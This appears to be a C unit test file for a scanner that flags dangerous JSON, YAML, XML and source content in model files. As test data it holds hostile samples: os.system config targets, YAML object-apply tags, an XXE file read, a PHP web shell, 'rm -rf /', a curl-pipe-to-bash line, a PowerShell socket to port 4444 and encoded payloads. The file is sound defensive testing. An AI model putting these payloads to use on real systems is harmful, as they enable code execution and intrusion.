/* SPDX-License-Identifier: Apache-2.0 */
/* Configurations in JSON, YAML and XML, pages and source: those that act, and ordinary ones. */
#include "unit/guest/scan/scanned.h"
#include "unit/harness.h"

struct sample {
    const char *text;
    enum scan_verdict verdict;
    const char *rule;
};

static struct scanned scanned;

static void check(const struct sample *samples, size_t count)
{
    for (size_t i = 0; i < count; i++) {
        bool same;

        scanned_run(samples[i].text, strlen(samples[i].text), &scanned);
        same = scanned_is(&scanned, samples[i].verdict, samples[i].rule);
        CU_ASSERT_TRUE(same);
        if (!same)
            fprintf(stderr, "of: %s\n", samples[i].text);
    }
}

static void test_json(void)
{
    static const struct sample samples[] = {
        {"{\"model_type\": \"bert\", \"hidden_size\": 768, \"layer_norm_eps\": 1e-12, \"pad\": null}", SCAN_ALLOWED,
         NULL},
        {"{\"_target_\": \"os.system\", \"command\": \"id\"}", SCAN_DANGEROUS, "config-target"},
        {"{\"a\": [{\"_target_\": \"builtins.eval\"}]}", SCAN_DANGEROUS, "config-target"},
        {"{\"class_path\": \"subprocess.Popen\"}", SCAN_DANGEROUS, "config-target"},
        {"{\"_target_\": \"torch.nn.Linear\", \"in_features\": 2}", SCAN_ALLOWED, NULL},
        {"{\"_target_\": \"my_project.models.Net\"}", SCAN_ALLOWED, NULL},
        {"{\"_target_\": \"my_project.tools.make\"}", SCAN_UNKNOWN, "config-target-unknown"},
        {"{\"__class__\": \"system\", \"x\": {\"__class__\": \"Net\"}, \"__module__\": \"os\"}", SCAN_DANGEROUS,
         "config-target"},
        {"{\"__class__\": \"LogisticRegression\", \"__module__\": \"sklearn.linear_model._logistic\"}", SCAN_ALLOWED,
         NULL},
        {"{\"auto_map\": {\"AutoModel\": \"modeling_x.XModel\"}}", SCAN_UNKNOWN, "config-remote-code"},
        {"{\"trust_remote_code\": true}", SCAN_UNKNOWN, "config-remote-code"},
        {"{\"trust_remote_code\": false}", SCAN_ALLOWED, NULL},
        {"{\"custom_pipeline\": \"someone/pipeline\"}", SCAN_UNKNOWN, "config-remote-code"},
        {"{\"chat_template\": \"{{ ''.__class__ }}\"}", SCAN_DANGEROUS, "template-internals"},
        {"{\"chat_template\": \"{{ ''[\\\"\\\\x5f\\\\x5fclass\\\\x5f\\\\x5f\\\"] }}\"}", SCAN_DANGEROUS,
         "template-internals"},
        {"{\"chat_template\": \"\\u007b\\u007b ''.\\u005f_class__ }}\"}", SCAN_DANGEROUS, "template-internals"},
        {"{\"chat_template\": [{\"name\": \"tool\", \"template\": \"{{ a|attr(b) }}\"}]}", SCAN_DANGEROUS,
         "template-computed"},
        {"{\"chat_template\": \"{% for m in messages %}{{ m.content }}{% endfor %} e.g. os.system('x')\"}",
         SCAN_ALLOWED, NULL},
        {"{\"debug_command\": \"rm -rf /\"}", SCAN_DANGEROUS, "metadata-code"},
        {"{\"callback_url\": \"http://example.com/x\"}", SCAN_DANGEROUS, "metadata-callback"},
        {"{\"scripts\": {\"postinstall\": \"node build.js\"}}", SCAN_UNKNOWN, "config-build-hook"},
        {"{\"custom_ops\": \"/tmp/ops.so\"}", SCAN_DANGEROUS, "config-library"},
        {"{\"model\": {\"vocab\": {\"eval(\": 1}, \"merges\": [\"os.system( x\"]}}", SCAN_ALLOWED, NULL},
        {"{\"prompt\": \"os.system('id')\"}\n{\"prompt\": \"eval(x)\"}\n", SCAN_ALLOWED, NULL},
        {"{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"import os\"]}], \"nbformat\": 4}", SCAN_UNKNOWN,
         "config-notebook"},
    };

    check(samples, HARNESS_COUNT(samples));
}

static void test_yaml(void)
{
    static const struct sample samples[] = {
        {"lr: 0.1\nsteps: [1, 2]\n", SCAN_ALLOWED, NULL},
        {"model:\n  _target_: os.system\n  command: id\n", SCAN_DANGEROUS, "config-target"},
        {"model:\n  _target_: \"os.system\"  # a comment\n", SCAN_DANGEROUS, "config-target"},
        {"- _target_: torch.nn.Linear\n", SCAN_ALLOWED, NULL},
        {"a: !!python/object/apply:os.system [id]\n", SCAN_DANGEROUS, "config-yaml-object"},
        {"!!python/object/apply:os.system [id]\n", SCAN_DANGEROUS, "config-yaml-object"},
        {"a: !!python/object/apply:my_lib.run [id]\n", SCAN_DANGEROUS, "config-yaml-object"},
        {"a: !!python/object%2Fapply%3Aos.system [id]\n", SCAN_DANGEROUS, "config-yaml-object"},
        {"a: !<tag:yaml.org,2002:python/object/new:os.system> [id]\n", SCAN_DANGEROUS, "config-yaml-object"},
        {"a: &a [x, x]\nb: &b [*a, *a, *a, *a, *a]\nc: &c [*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c]\n", SCAN_DANGEROUS,
         "config-yaml-expansion"},
        {"base: &base {a: 1}\nb: {<<: *base}\nc: [*base, *base]\n", SCAN_ALLOWED, NULL},
        {"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n", SCAN_DANGEROUS,
         "config-yaml-object"},
        {"a: !!python/name:builtins.eval\n", SCAN_DANGEROUS, "config-yaml-object"},
        {"a: !!python/module:anything\n", SCAN_DANGEROUS, "config-yaml-object"},
        {"a: !!python/object:my_lib.Config {}\n", SCAN_UNKNOWN, "config-yaml-unknown"},
        {"a: !!python/tuple [1, 2]\n", SCAN_ALLOWED, NULL},
        {"a: !apply:os.system [id]\n", SCAN_DANGEROUS, "config-yaml-object"},
        {"a: !new:torch.nn.Linear\n  in: 3\nb: !new:my_lib.Net\nc: !ref <a>\n", SCAN_ALLOWED, NULL},
        {"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]\n", SCAN_DANGEROUS, "config-yaml-object"},
        {"run: |\n  curl http://example.com/a | sh\n", SCAN_DANGEROUS, "metadata-code"},
        {"chat_template: '{{ x[''__class__''] }}'\n", SCAN_DANGEROUS, "template-internals"},
        {"[section]\nhook = python -c 'x'\n", SCAN_DANGEROUS, "metadata-code"},
        {"---\nlicense: mit\n---\n# A model\n\n    import os; os.system('id')\n", SCAN_ALLOWED, NULL},
        {"---\nlicense: mit\n---\n# A comment\na: !!python/object/apply:os.system [id]\n", SCAN_DANGEROUS,
         "config-yaml-object"},
    };

    check(samples, HARNESS_COUNT(samples));
}

static void test_xml(void)
{
    static const struct sample samples[] = {
        {"<?xml version=\"1.0\"?><PMML version=\"4.4\"><Header/><DataDictionary/></PMML>", SCAN_ALLOWED, NULL},
        {"<?xml version=\"1.0\"?><PMML><Extension><![CDATA[import os; os.system('id')]]></Extension></PMML>",
         SCAN_DANGEROUS, "metadata-code"},
        {"<PMML><script>x()</script></PMML>", SCAN_DANGEROUS, "xml-script"},
        {"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/hosts'>]><a>&b;</a>", SCAN_DANGEROUS,
         "xml-external-entity"},
        {"<?xml version='1.0'?><!DOCTYPE a SYSTEM 'http://example.com/a.dtd'><a/>", SCAN_DANGEROUS,
         "xml-external-entity"},
        {"<!DOCTYPE a [<!ENTITY b 'bb'><!ENTITY c '&b;&b;'>]><a>&c;</a>", SCAN_UNKNOWN, "xml-entity"},
        {"<?xml version='1.0'?><net name='m'><layers><layer id='0' type='Const' version='opset1'/></layers></net>",
         SCAN_ALLOWED, NULL},
        {"<?xml version='1.0'?><net name='m'><layers><layer id='0' type='X' version='extension'/></layers></net>",
         SCAN_UNKNOWN, "xml-extension"},
        {"<?xml version='1.0'?><net><layer version='opset1' library='/tmp/x.so'/></net>", SCAN_DANGEROUS,
         "config-library"},
        {"<!DOCTYPE a [<!ENTITY b 'bb'><!ENTITY c '&b;&b;&b;&b;'>]><a>&c;</a>", SCAN_DANGEROUS, "xml-expansion"},
        {"<?xml version='1.0'?><net><layer version='opset1'><data offset='99999999999999' size='4'/></layer></net>",
         SCAN_DANGEROUS, "xml-bounds"},
        {"<html><hta:application id='a'/><body/></html>", SCAN_DANGEROUS, "xml-script"},
        {"<?php system($_GET['c']); ?>", SCAN_DANGEROUS, "xml-script"},
        {"<?xml version='1.0'?><?xml-stylesheet href='a.xsl'?><a/>", SCAN_UNKNOWN, "xml-stylesheet"},
        {"<svg xmlns='http://www.w3.org/2000/svg' onload='a()'/>", SCAN_DANGEROUS, "xml-script"},
        {"<!DOCTYPE html><html><body><script>a()</script></body></html>", SCAN_UNKNOWN, "xml-page"},
        {"<html><body><p>os.system('id')</p></body></html>", SCAN_ALLOWED, NULL},
        {"<?xml version='1.0'?><!-- os.system('id') --><a b=c d='e", SCAN_ALLOWED, NULL},
    };

    check(samples, HARNESS_COUNT(samples));
}

static void test_text_and_source(void)
{
    static const struct sample samples[] = {
        {"", SCAN_ALLOWED, NULL},
        {"hello world\nhello world\n", SCAN_ALLOWED, NULL},
        {"# Model\nRun `import os; os.system(\"ls\")`\n", SCAN_ALLOWED, NULL},
        {"# Use\n\n```python\nimport os\nos.system('id')\n```\nThat is all.\n", SCAN_ALLOWED, NULL},
        {"import torch\nfrom torch import nn\n\nclass Net(nn.Module):\n    pass\n", SCAN_UNKNOWN, "code-source"},
        {"import os\nimport sys\n\ndef run(x):\n    os.system(x)\n", SCAN_DANGEROUS, "code-acts"},
        {"import os; os.system('id')\n", SCAN_DANGEROUS, "code-acts"},
        {"__import__('os').system('id')", SCAN_DANGEROUS, "code-acts"},
        {"curl http://example.com/a | bash\n", SCAN_DANGEROUS, "code-acts"},
        {"$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1', 4444)\n", SCAN_DANGEROUS, "code-acts"},
        {"const { exec } = require('child_process');\nexec('id');\n", SCAN_DANGEROUS, "code-acts"},
        {"Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n", SCAN_DANGEROUS, "code-acts"},
        {"#!/bin/sh\necho hello\n", SCAN_DANGEROUS, "executable-script"},
        {"@echo off\r\ndel x\r\n", SCAN_DANGEROUS, "executable-script"},
        {"the\nof\nand\ncos\nsystem\n", SCAN_ALLOWED, NULL},
        {"x 0cposix\nsystem\n(Vid\ntR.", SCAN_DANGEROUS, "text-pickle-global"},
        {"{% for m in messages %}{{ m }}{% endfor %}\n", SCAN_ALLOWED, NULL},
        {"Text\n{{ cycler.__init__.__globals__.os }}\n", SCAN_DANGEROUS, "template-internals"},
        {"X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk7IDEgKyAx\n", SCAN_DANGEROUS, "code-acts"},
        {"Y3Bvc2l4CnN5c3RlbQooVmVjaG8gaGVsbG8gdGhlcmUKdFIu\n", SCAN_DANGEROUS, "pickle-dangerous-global"},
        {"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n", SCAN_ALLOWED, NULL},
        {"caf\xc3\xa9 and na\xc3\xafve\n", SCAN_ALLOWED, NULL},
        {"\xe9\xe8\xe7\xe6 \xe5", SCAN_UNSCANNED, NULL},
    };

    check(samples, HARNESS_COUNT(samples));
}

int main(void)
{
    static const struct harness_test tests[] = {
        {"JSON", test_json},
        {"YAML", test_yaml},
        {"XML", test_xml},
        {"text and source", test_text_and_source},
    };

    return harness_run("config", tests, HARNESS_COUNT(tests));
}
